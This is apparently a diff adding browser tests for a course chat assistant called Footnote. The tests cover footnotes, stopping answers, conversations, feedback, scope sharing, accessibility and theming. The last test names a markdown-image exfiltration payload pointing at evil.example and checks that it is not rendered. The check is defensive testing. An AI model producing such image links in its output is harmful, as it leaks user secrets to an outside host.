@@ -1,0 +1,216 @@
+"""What a person does in the chat, in a real browser: ask, read a footnote, stop, come back, judge, choose where to ask."""
+
+import re
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from app.conversation import Conversations
+from tests.browser_support import answered, ask, browser, scripted_site, settle, until, visit  # noqa: F401
+
+# ruff: noqa: F811 (pytest finds fixtures by their names)
+
+pytestmark = pytest.mark.timeout(240)
+Visit = Callable[..., Any]
+STOP = '[class*="st-key-stop-"] button'
+
+
+def test_ask_read_a_footnote_and_open_its_source(visit: Visit) -> None:
+    page = visit()
+    answered(page, "What is perplexity?")
+    chip = page.get_by_role("link", name="Footnote 2").first
+    card = page.locator(".fn-card").nth(1)
+    assert not card.is_visible()
+    chip.hover()
+    card.wait_for(state="visible")
+    assert "It falls when the context gets longer." in card.inner_text()
+    assert "Measures of a model › Perplexity" in card.inner_text()
+    marks = page.locator(".fn-source mark").all_inner_texts()
+    assert marks[-1] == "It falls when the context gets longer."
+    page.get_by_role("link", name="Open the source of footnote").first.click()
+    quoted = page.locator("#here mark")
+    quoted.first.wait_for()
+    assert "".join(quoted.all_inner_texts()).endswith("next token. It falls when the context gets longer.")
+    assert "/library?doc=measures&at=" in page.url
+
+
+def test_states_are_shown_and_stop_keeps_what_is_there(visit: Visit) -> None:
+    page = visit()
+    ask(page, "slow one")
+    page.get_by_text("Writing …").wait_for()
+    page.locator(".fn-answer", has_text="word5").wait_for()
+    page.locator(STOP).click()
+    page.get_by_text("You stopped this answer.").wait_for()
+    settle(page)
+    kept = page.locator(".fn-answer").last.inner_text()
+    assert "word5" in kept
+    assert "word100" not in kept
+    assert page.locator(STOP).count() == 0
+    page.reload()
+    page.get_by_text("You stopped this answer.").wait_for()
+    assert page.locator(".fn-answer").last.inner_text() == kept
+
+
+def test_an_answer_goes_on_while_its_page_is_reloaded(visit: Visit) -> None:
+    page = visit()
+    ask(page, "slow and reloaded")
+    page.locator(".fn-answer", has_text="word3").wait_for()
+    page.reload()
+    page.locator(".fn-answer", has_text="word15").wait_for()
+    page.locator(STOP).wait_for()
+    page.wait_for_timeout(500)
+    page.keyboard.press("Escape")
+    page.get_by_text("You stopped this answer.").wait_for()
+
+
+def test_another_question_while_one_is_answered_stops_the_first(visit: Visit) -> None:
+    page = visit()
+    ask(page, "slow first")
+    page.locator(".fn-answer", has_text="word2").wait_for()
+    answered(page, "What is perplexity?")
+    assert page.get_by_text("You stopped this answer.").count() == 1
+    assert page.locator(".fn-question").all_inner_texts() == ["slow first", "What is perplexity?"]
+
+
+def test_conversations_are_listed_found_renamed_exported_and_deleted(visit: Visit) -> None:
+    page = visit()
+    answered(page, "What is perplexity, exactly?")
+    address = page.url
+    page.get_by_role("button", name="New conversation").click()
+    page.get_by_text("Ask anything about").wait_for()
+    until(page, lambda: "c=" not in page.url)
+    page.get_by_role("button", name="What is perplexity, exactly?").first.click()
+    page.locator(".fn-chip").first.wait_for()
+    until(page, lambda: page.url == address)
+    page.get_by_role("button", name="Conversation").click()
+    title = page.get_by_label("Title")
+    title.fill("Measures, for the exam")
+    title.press("Enter")
+    page.get_by_role("button", name="Measures, for the exam").wait_for()
+    settle(page)
+    if not page.get_by_role("button", name="Export as Markdown").is_visible():
+        page.get_by_role("button", name="Conversation").click()
+    with page.expect_download() as loading:
+        page.get_by_role("button", name="Export as Markdown").click()
+    text = Path(loading.value.path()).read_text(encoding="utf-8")
+    assert "## What is perplexity, exactly?" in text
+    assert "[^1]: “Perplexity says" in text
+    page.get_by_role("button", name="Delete this conversation").click()
+    page.get_by_text("Ask anything about").wait_for()
+    assert page.get_by_role("button", name="Measures, for the exam").count() == 0
+
+
+def test_feedback_is_kept(visit: Visit, scripted_site: tuple[str, Path]) -> None:
+    page = visit()
+    answered(page, "What is perplexity to me?")
+    page.get_by_role("radio", name="Thumbs down").click()
+    reason = page.get_by_label("Why? (optional)")
+    reason.fill("no example")
+    reason.press("Enter")
+    settle(page)
+    page.wait_for_timeout(300)
+    given = Conversations(scripted_site[1] / "data" / "footnote.db").feedback()
+    assert [(one.rating, one.reason) for one in given if one.question == "What is perplexity to me?"] == [
+        (0, "no example")
+    ]
+    page.reload()
+    page.locator(".fn-chip").first.wait_for()
+    assert page.get_by_label("Why? (optional)").input_value() == "no example"
+
+
+def test_the_scope_is_chosen_and_shared_by_the_link(visit: Visit) -> None:
+    page = visit()
+    settle(page)
+    page.get_by_role("combobox", name=re.compile("Ask in")).click()
+    page.get_by_role("option", name="Measures of a model › Perplexity").click()
+    page.wait_for_url(re.compile(r"in=measures%2FPerplexity"))
+    other = visit(page.url.removeprefix(page.url.split("/?")[0]))
+    other.locator(".st-key-scope-box").get_by_text("Measures of a model › Perplexity").wait_for()
+
+
+def test_a_refusal_and_a_failure_are_told(visit: Visit) -> None:
+    page = visit()
+    answered(page, "nothing of it")
+    assert page.get_by_text("The course does not cover this").is_visible()
+    page.get_by_role("link", name="Measures of a model › Perplexity").wait_for()
+    ask(page, "crash it")
+    page.get_by_text("Something went wrong in Footnote itself").wait_for()
+    assert "secret detail" not in page.content()
+
+
+def test_details_behind_one_button(visit: Visit) -> None:
+    page = visit()
+    answered(page, "What is perplexity?")
+    page.get_by_role("button", name="Details").click()
+    details = page.locator(".fn-details")
+    details.wait_for()
+    assert "92% that the course answers this" in details.inner_text()
+    assert "1,200 read, 80 written" in details.inner_text()
+
+
+def test_two_users_at_once(visit: Visit) -> None:
+    first, second = visit(), visit()
+    ask(first, "slow for the first")
+    first.locator(".fn-answer", has_text="word2").wait_for()
+    answered(second, "What is perplexity?")
+    assert second.locator(".fn-question").all_inner_texts() == ["What is perplexity?"]
+    first.locator(".fn-answer", has_text="word8").wait_for()
+    first.locator(STOP).click()
+    first.get_by_text("You stopped this answer.").wait_for()
+    assert first.locator(".fn-question").all_inner_texts() == ["slow for the first"]
+
+
+def test_by_keyboard_alone(visit: Visit) -> None:
+    page = visit()
+    settle(page)
+    page.get_by_test_id("stChatInputTextArea").focus()
+    page.keyboard.type("What is perplexity?")
+    page.keyboard.press("Enter")
+    page.locator(".fn-chip").first.wait_for()
+    settle(page)
+    for _ in range(40):
+        page.keyboard.press("Tab")
+        if page.evaluate("document.activeElement.classList.contains('fn-chip')"):
+            break
+    page.locator(".fn-card").first.wait_for(state="visible")
+    page.keyboard.press("Enter")
+    until(page, lambda: page.url.endswith("source-1"))
+
+
+def test_phone_width(visit: Visit) -> None:
+    page = visit(width=400, height=800)
+    answered(page, "What is perplexity?")
+    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
+    cards = page.locator(".fn-sources-list")
+    assert not cards.is_visible()
+    page.get_by_text("2 footnotes").click()
+    cards.wait_for(state="visible")
+    page.get_by_text("2 footnotes").click()
+    cards.wait_for(state="hidden")
+    page.get_by_role("link", name="Footnote 2").first.click()
+    cards.wait_for(state="visible")
+
+
+def test_dark_mode_follows_the_system(visit: Visit) -> None:
+    def colours(page: Any) -> tuple[int, int]:
+        paper, ink = page.evaluate(
+            "[getComputedStyle(document.querySelector('.stApp')).backgroundColor, getComputedStyle(document.querySelector('.fn-welcome h1')).color]"
+        )
+        return tuple(sum(map(int, re.findall(r"\d+", colour)[:3])) for colour in (paper, ink))  # type: ignore[return-value]
+
+    light, dark = visit(), visit(dark=True)
+    for page in (light, dark):
+        page.locator(".fn-welcome h1").wait_for()
+    (light_paper, light_ink), (dark_paper, dark_ink) = colours(light), colours(dark)
+    assert light_paper > 600 > 250 > light_ink
+    assert dark_paper < 150 < 500 < dark_ink
+
+
+def test_nothing_of_an_answer_is_loaded_from_elsewhere(visit: Visit) -> None:
+    page = visit()
+    answered(page, "evil question")
+    page.wait_for_timeout(500)
+    assert page.locator(".fn-answer img, .fn-answer script, .fn-answer iframe").count() == 0
+    assert "![leak](https://evil.example/?q=secret)" not in page.locator(".fn-answer").inner_html()
